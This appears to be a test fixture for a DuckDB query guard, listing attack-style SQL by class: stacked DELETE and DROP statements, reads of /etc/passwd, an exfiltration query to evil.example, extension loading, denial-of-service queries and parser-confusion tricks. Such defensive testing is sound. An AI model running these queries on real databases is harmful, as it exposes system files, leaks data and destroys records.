-- One statement a line, under the class it belongs to. ␊ ␉ ␋ ␌ ␍ ␀ stand for the control characters they show, {U+200B} for that character.

-- write: changes rows, by any route
INSERT INTO ships (id, name) VALUES (9, 'Ghost')
INSERT OR REPLACE INTO ships (id, name) VALUES (1, 'Ghost')
INSERT INTO ships BY NAME SELECT 9 AS id, 'Ghost' AS name
INSERT INTO berths SELECT id + 50, quay, depth, NULL, NULL FROM berths RETURNING *
UPDATE crew SET wage = wage * 2
UPDATE crew SET wage = 0 FROM ships WHERE ships.id = crew.ship_id
DELETE FROM cargo
DELETE FROM cargo USING port_calls p WHERE p.id = cargo.call_id
TRUNCATE cargo
MERGE INTO ships USING (SELECT 1 AS id) v USING (id) WHEN MATCHED THEN DELETE
WITH t AS (SELECT 1 AS id) DELETE FROM cargo WHERE id IN (SELECT id FROM t)
WITH t AS (SELECT 1 AS id) INSERT INTO ships (id) SELECT id + 10 FROM t
COPY ships FROM '/tmp/harbour_rows.csv'
EXPLAIN ANALYZE DELETE FROM cargo
EXPLAIN ANALYZE UPDATE crew SET wage = 0
UPDATE main.ships SET name = 'x' RETURNING *

-- ddl: changes structure
CREATE TABLE pwned (a INTEGER)
CREATE TABLE pwned AS FROM crew
CREATE TEMP TABLE pwned AS SELECT 1
CREATE OR REPLACE TABLE ships AS SELECT 1 AS id
CREATE OR REPLACE TEMP VIEW ships AS SELECT 'fake' AS name
CREATE VIEW pwned AS SELECT * FROM crew
CREATE MACRO upper(a) AS 'fake'
CREATE OR REPLACE TEMP MACRO lower(a) AS 'fake'
CREATE TEMP FUNCTION pwned(a) AS a + 1
CREATE SEQUENCE pwned
CREATE TYPE pwned AS ENUM ('a', 'b')
CREATE SCHEMA pwned
CREATE INDEX pwned ON ships (name)
ALTER TABLE ships ADD COLUMN pwned INTEGER
ALTER TABLE ships RENAME TO boats
ALTER VIEW fleet RENAME TO f
DROP TABLE cargo
DROP VIEW IF EXISTS fleet
DROP MACRO TABLE peek
COMMENT ON TABLE ships IS 'x'
VACUUM ANALYZE ships
ANALYZE
FORCE CHECKPOINT
CREATE SECRET pwned (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET pwned (TYPE http)

-- stacked: more than one statement, or one that ends the transaction
SELECT 1; DELETE FROM ships
SELECT 1;;DELETE FROM ships;
SELECT ';'; DELETE FROM cargo
COMMIT; DROP TABLE cargo
BEGIN TRANSACTION
ROLLBACK
ABORT
SELECT $$;$$; DELETE FROM cargo
FROM ships; DELETE FROM ships
SELECT 1 -- x␊; DELETE FROM cargo
SELECT 1 /* x */; UPDATE crew SET wage = 0
PREPARE p AS DELETE FROM cargo
PREPARE p AS SELECT 1; EXECUTE p
EXECUTE p
DEALLOCATE p
PIVOT ships ON flag USING count(*); DELETE FROM ships

-- file-read: files, URLs, directories
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd', delim = ':')
SELECT content FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/*')
SELECT * FROM read_json('/tmp/harbour.json')
SELECT * FROM read_json_auto('/tmp/harbour.json')
SELECT * FROM read_ndjson_objects('/tmp/harbour.json')
SELECT * FROM read_parquet('/tmp/harbour.parquet')
SELECT * FROM parquet_scan('/tmp/harbour.parquet')
SELECT * FROM parquet_metadata('/tmp/harbour.parquet')
SELECT * FROM parquet_kv_metadata('x.parquet')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM glob('/etc/*')
SELECT file FROM glob('*')
SELECT * FROM '/etc/passwd'
FROM '/etc/passwd.csv'
SELECT * FROM 'data/*.parquet'
SELECT * FROM "/tmp/harbour.csv"
SELECT * FROM 'https://evil.example/x.csv'
SELECT * FROM read_csv('https://evil.example/?q=' || (SELECT name FROM ships LIMIT 1))
SELECT * FROM 's3://bucket/key.parquet'
SELECT * FROM peek('/etc/passwd')
SELECT s.name, f.content FROM ships s, read_text('/etc/hostname') f
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT name FROM ships WHERE name IN (SELECT content FROM read_text('/etc/passwd'))
WITH f AS (FROM read_text('/etc/passwd')) SELECT * FROM f
SELECT * FROM sqlite_scan('/tmp/harbour.db', 'ships')
SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 'ships')
SELECT * FROM mysql_query('db', 'SELECT 1')
SELECT * FROM iceberg_scan('/tmp/x')
SELECT * FROM delta_scan('/tmp/x')
SELECT * FROM st_read('/tmp/x.shp')
SELECT * FROM read_xlsx('/tmp/x.xlsx')
SELECT getenv('HOME')
SELECT * FROM which_secret('s3://x', 's3')
DESCRIBE SELECT * FROM read_text('/etc/passwd')
SUMMARIZE FROM read_csv('/etc/passwd')
PIVOT read_csv('/etc/passwd') ON column0

-- file-write: files, extensions, other databases
COPY ships TO '/tmp/harbour_copy.csv'
COPY (SELECT * FROM crew) TO '/tmp/harbour_copy.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '/dev/stdout'
COPY FROM DATABASE harbour TO other
EXPORT DATABASE '/tmp/harbour_export'
IMPORT DATABASE '/tmp/harbour_export'
ATTACH '/tmp/harbour_attached.db' AS a
ATTACH ':memory:' AS m
ATTACH 'host=127.0.0.1' AS p (TYPE postgres)
DETACH harbour
INSTALL httpfs
FORCE INSTALL spatial FROM community
LOAD '/tmp/harbour_evil.duckdb_extension'
UPDATE EXTENSIONS
SELECT * FROM write_log('x')
SELECT write_log('x', level := 'error')

-- dos: endless or huge work
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n
WITH RECURSIVE n(i) AS (VALUES (1) UNION SELECT i + 1 FROM n) SELECT max(i) FROM n
SELECT count(*) FROM range(100000000000)
SELECT sum(a.range * b.range) FROM range(10000000) a, range(10000000) b
SELECT count(*) FROM generate_series(1, 9999999999)
SELECT range(1000000000)
SELECT unnest(generate_series(1, 1000000000))
SELECT repeat('sea', 1000000000)
SELECT lpad('', 2000000000, 'ab')
SELECT length(repeat(repeat('x', 30000), 30000))
SELECT format('{:>1000000000}', 'x')
SELECT printf('%1000000000d', 1)
SELECT count(*) FROM ships a, ships b, crew c, crew d, cargo e, cargo f, port_calls g, port_calls h
SELECT * FROM repeat_row(1, num_rows = 1000000000)
SELECT count(*) FROM test_all_types(), range(1000000000)
SELECT sleep_ms(100000)
SELECT list_resize([1], 1000000000)
SELECT bitstring('0', 1000000000)

-- side-effect: anything that outlives the query
SELECT nextval('berth_ticket')
SELECT currval('berth_ticket')
CALL pragma_version()
CALL duckdb_functions()
CALL enable_logging()
CALL start_ui()
CALL load_aws_credentials()
PRAGMA enable_profiling
PRAGMA version
PRAGMA table_info('crew')
PRAGMA database_size
PRAGMA disable_checkpoint_on_shutdown
CHECKPOINT
SET VARIABLE x = 1
RESET VARIABLE x
SELECT setseed(0.5)
SELECT txid_current()
SELECT error('stop')
SELECT * FROM checkpoint('harbour')
SELECT * FROM force_checkpoint()
USE memory

-- exfil: settings, catalogue, SQL in strings
SELECT * FROM query('SELECT * FROM crew')
SELECT * FROM query_table('crew')
FROM query_table(['crew', 'ships'])
SELECT * FROM query('FROM read_text(''/etc/passwd'')')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM crew'))
SELECT json_serialize_sql('SELECT 1')
SELECT json_serialize_plan('SELECT 1')
SELECT * FROM sql_auto_complete('SEL')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT sql FROM duckdb_tables()
SELECT * FROM duckdb_tables
SELECT path FROM duckdb_databases()
SELECT * FROM duckdb_logs
SELECT * FROM information_schema.tables
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pragma_database_list
SELECT * FROM pragma_storage_info('crew')
SELECT * FROM sqlite_master
SELECT * FROM temp.information_schema.tables
SELECT current_setting('memory_limit')
SELECT getvariable('x')
SELECT version()
SELECT current_database(), current_schema()
SELECT current_query()
SELECT * FROM seq_scan('crew')
SELECT * FROM storage_info('crew')
SELECT * FROM pragma_user_agent()
SHOW TABLES
SHOW ALL TABLES
DESCRIBE crew
SELECT * FROM (SHOW DATABASES)
SELECT * FROM (DESCRIBE crew)
SELECT * FROM (SUMMARIZE crew)
SELECT * FROM duckdb_memory()
SELECT column_name FROM (DESCRIBE SELECT * FROM crew)

-- config: settings of the connection
SET memory_limit = '100GB'
SET enable_external_access = true
SET GLOBAL threads = 64
SET SESSION search_path = 'evil'
SET lock_configuration = false
RESET memory_limit
SET log_query_path = '/tmp/harbour_log'
SET home_directory = '/tmp'
SET allowed_paths = ['/etc/passwd']
PRAGMA threads = 64
PRAGMA memory_limit = '100GB'
SET custom_user_agent = 'x'
SELECT set_config('threads', '1')
SET schema = 'information_schema'

-- parser-differential: text that two parsers may read differently
SELECT 1␀; DELETE FROM cargo
{U+FEFF}DELETE FROM cargo
DEL/**/ETE FROM cargo
SELECT 1 /* /* */ */ ; DELETE FROM cargo -- */
SELECT 'a\'; DELETE FROM cargo; --'
SELECT E'a\''; DELETE FROM cargo; --'
SELECT $a$ x $b$ y $a$; DELETE FROM cargo; --$b$
SELECT * FROM "read_text"('/etc/passwd')
SELECT * FROM read_text␋('/etc/passwd')
SELECT * FROM READ_TEXT/**/('/etc/passwd')
SELECT * FROM main.read_text('/etc/passwd')
SELECT * FROM system.main.read_text('/etc/passwd')
SELECT * FROM{U+00A0}read_text('/etc/passwd')
SELECT '/etc/passwd'.read_text()
SELECT ('SELECT 1').json_serialize_sql()
SELECT 'HOME'.getenv()
SELECT list_transform(['HOME'], x -> getenv(x))
SELECT list_transform(['HOME'], lambda x: getenv(x))
SELECT [getenv(x) FOR x IN ['HOME']]
SELECT {'a': getenv('HOME')}
SELECT MAP {'a': getenv('HOME')}
SELECT COLUMNS(c -> getenv(c) IS NOT NULL) FROM ships
SELECT * REPLACE (getenv('HOME') AS name) FROM ships
SELECT * EXCLUDE (id) FROM read_text('/etc/passwd')
SELECT name FROM ships ORDER BY getenv('HOME')
SELECT name FROM ships QUALIFY row_number() OVER (ORDER BY getenv('HOME')) = 1
SELECT name FROM ships USING SAMPLE reservoir(10 ROWS) REPEATABLE (length(getenv('HOME')))
SELECT name FROM ships LIMIT (SELECT length(getenv('HOME')))
SELECT name FROM ships ASOF JOIN glob('*') g ON ships.name >= g.file
SELECT name FROM ships POSITIONAL JOIN read_text('/etc/hostname')
SELECT * FROM (VALUES (getenv('HOME')))
SELECT * FROM (PIVOT ships ON getenv('HOME'))
FROM (FROM '/etc/passwd')
TABLE '/etc/passwd'
SELECT * FROM ships AT (VERSION => 1)
SELECT ships.name, #1, getenv('HOME') FROM ships
SELECT 1 --␍; DELETE FROM cargo␊; DELETE FROM cargo
